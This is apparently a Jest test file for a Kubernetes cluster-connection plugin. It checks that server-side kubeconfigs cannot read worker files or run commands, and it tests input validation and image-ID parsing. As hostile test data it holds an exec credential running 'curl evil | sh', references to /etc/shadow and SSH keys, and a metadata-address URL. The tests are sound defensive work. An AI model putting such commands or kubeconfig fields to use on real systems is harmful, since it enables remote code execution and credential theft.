import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { BadInputError } from '@bulkhead/plugin-sdk';
import { connect } from './connect';
import { parseImageId, toClusterObject } from './model';
import { watchClusterInput, watchClusterTask } from './watch-task';

/*
 * Hostile and broken inputs of the cluster connection: a kubeconfig on a server may not make
 * the worker read its files or run commands; bad files, contexts and names are clear errors.
 */

jest.setTimeout(30_000); // the first connection loads @kubernetes/client-node (compiled by Jest: seconds on a loaded machine)
let dir: string;
beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'bh-connect-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function kubeconfig(name: string, user: Record<string, unknown>, cluster: Record<string, unknown> = { server: 'https://10.0.0.1:6443', 'certificate-authority-data': 'AA==' }): string {
  const file = path.join(dir, name);
  writeFileSync(file, JSON.stringify({ apiVersion: 'v1', kind: 'Config', clusters: [{ name: 'c', cluster }], users: [{ name: 'u', user }], contexts: [{ name: 'ctx', context: { cluster: 'c', user: 'u' } }], 'current-context': 'ctx' }));
  return file;
}

describe('connect', () => {
  it('on a server, refuses a kubeconfig that would read worker files or run commands, naming the field', async () => {
    const tokenFile = kubeconfig('token-file', { 'token-file': '/etc/shadow' });
    await expect(connect({ kubeconfig: tokenFile, onServer: true })).rejects.toThrow(new BadInputError(`kubeconfig ${tokenFile}: users[0] (u).user.token-file refers to a file, which a server does not read; embed the credential (token)`));
    const cert = kubeconfig('cert-file', { 'client-certificate': '/root/.ssh/id_rsa', 'client-key-data': 'AA==' });
    await expect(connect({ kubeconfig: cert, onServer: true })).rejects.toThrow(/users\[0\] \(u\)\.user\.client-certificate refers to a file/);
    const ca = kubeconfig('ca-file', { token: 't' }, { server: 'https://10.0.0.1', 'certificate-authority': '/etc/passwd' });
    await expect(connect({ kubeconfig: ca, onServer: true })).rejects.toThrow(/clusters\[0\]\.cluster\.certificate-authority refers to a file/);
    const exec = kubeconfig('exec', { exec: { apiVersion: 'client.authentication.k8s.io/v1', command: 'sh', args: ['-c', 'curl evil | sh'] } });
    await expect(connect({ kubeconfig: exec, onServer: true })).rejects.toThrow(/users\[0\] \(u\)\.user\.exec runs a command on the worker; allowed only with allowExec: true where the operator set BULKHEAD_ENABLE_CLUSTER_EXEC_CREDENTIALS=true/);
    // The same files inline (the CLI, the user's own kubeconfig) are read as kubectl reads them.
    await expect(connect({ kubeconfig: exec })).resolves.toMatchObject({ server: 'https://10.0.0.1:6443', context: 'ctx', source: 'kubeconfig' });
    await expect(connect({ kubeconfig: exec, onServer: true, allowExec: true })).resolves.toMatchObject({ context: 'ctx' });
  });

  it('names a missing file, bad YAML, a non-kubeconfig, an unknown context and contradicting options', async () => {
    await expect(connect({ kubeconfig: path.join(dir, 'nope') })).rejects.toThrow(`cannot read kubeconfig ${path.join(dir, 'nope')}: no such file or directory`);
    const bad = path.join(dir, 'bad.yaml');
    writeFileSync(bad, 'clusters: [unclosed\n');
    await expect(connect({ kubeconfig: bad })).rejects.toThrow(new RegExp(`kubeconfig ${bad} is not valid YAML`));
    const scalar = path.join(dir, 'scalar.yaml');
    writeFileSync(scalar, 'just text\n');
    await expect(connect({ kubeconfig: scalar })).rejects.toThrow(/is not a kubeconfig/);
    const ok = kubeconfig('ok', { token: 't' });
    await expect(connect({ kubeconfig: ok, context: 'prod' })).rejects.toThrow(`kubeconfig ${ok} has no context "prod"; it has: ctx`);
    await expect(connect({ kubeconfig: ok, inCluster: true })).rejects.toThrow('inCluster and kubeconfig exclude each other: give one');
    await expect(connect({ onServer: true })).rejects.toThrow(/a server needs the path of a kubeconfig file/);
    if (!process.env['KUBERNETES_SERVICE_HOST']) await expect(connect({ inCluster: true })).rejects.toThrow(/inCluster: this process does not run in a Kubernetes pod/);
    const plain = kubeconfig('plain-http', { token: 't' }, { server: 'http://169.254.169.254' });
    await expect(connect({ kubeconfig: plain, onServer: true })).rejects.toThrow(/a server connects to API servers over https only, not "http:\/\/169\.254\.169\.254"/);
  });
});

describe('watch-cluster input', () => {
  it('takes a lowercase cluster name and a kubeconfig or inCluster; its server reach is the kubeconfig path and the settings', () => {
    expect(() => watchClusterInput.parse({ cluster: '../etc', kubeconfig: '/k' })).toThrow(/lowercase name/);
    expect(() => watchClusterInput.parse({ cluster: 'Prod', kubeconfig: '/k' })).toThrow(/lowercase name/);
    expect(() => watchClusterInput.parse({ cluster: 'prod' })).toThrow(/kubeconfig \(a path\) or inCluster/);
    expect(() => watchClusterInput.parse({ cluster: 'prod', kubeconfig: '/k', inCluster: true })).toThrow(/not both/);
    expect(() => watchClusterInput.parse({ cluster: 'prod', kubeconfig: '/k', namespaces: ['a/b'] })).toThrow(/namespace name/);
    const input = watchClusterInput.parse({ cluster: 'prod', kubeconfig: '/k', allowExec: true });
    expect(watchClusterTask.serverInputs?.(input)).toEqual({ paths: [{ field: 'kubeconfig', path: '/k' }], requiresSetting: 'BULKHEAD_ENABLE_CLUSTER_EXEC_CREDENTIALS' });
    expect(watchClusterTask.serverInputs?.(watchClusterInput.parse({ cluster: 'prod', inCluster: true }))).toEqual({ requiresSetting: 'BULKHEAD_ENABLE_CLUSTER_IN_CLUSTER' });
  });
});

describe('normalising API objects', () => {
  it('keeps identity, drops managedFields and last-applied, skips objects without uid or name', () => {
    const o = toClusterObject({ metadata: { uid: 'u', name: 'n', namespace: 'x', managedFields: [{}], annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{}', keep: 'me' } } }, 'Pod', 'v1');
    expect(o).toMatchObject({ uid: 'u', kind: 'Pod', apiVersion: 'v1', namespace: 'x', object: { metadata: { annotations: { keep: 'me' } } } });
    expect(JSON.stringify(o)).not.toMatch(/managedFields|last-applied/);
    expect(toClusterObject({ metadata: { name: 'n' } }, 'Pod', 'v1')).toBeUndefined();
    expect(toClusterObject('not an object', 'Pod', 'v1')).toBeUndefined();
    // A cluster-scoped kind never carries a namespace, whatever the object says.
    expect(toClusterObject({ metadata: { uid: 'u', name: 'n', namespace: 'spoof' } }, 'Node', 'v1')?.namespace).toBe('');
  });

  it('reads the running digest and repository out of every imageID form', () => {
    const d = `sha256:${'a'.repeat(64)}`;
    expect(parseImageId(`docker-pullable://reg.example/app@${d}`)).toEqual({ digest: d, repository: 'reg.example/app' });
    expect(parseImageId(`docker.io/library/nginx@${d}`)).toEqual({ digest: d, repository: 'docker.io/library/nginx' });
    expect(parseImageId(d)).toEqual({ digest: d, repository: null });
    expect(parseImageId('')).toEqual({ digest: null, repository: null });
    expect(parseImageId('reg/app@sha256:short')).toEqual({ digest: null, repository: null });
  });
});
